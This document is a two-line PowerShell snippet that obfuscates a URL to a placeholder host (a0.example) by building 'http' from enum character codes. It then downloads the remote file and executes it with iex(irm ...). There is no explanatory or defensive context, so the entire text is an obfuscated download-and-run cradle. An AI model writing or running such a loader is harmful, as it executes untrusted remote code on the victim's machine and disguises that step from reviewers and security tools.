enum E { h = 104; t = 116 }
$s=[char][int][E]::h+[string][char][int][E]::t+"tp://a0.example/p.txt"; iex(irm $s)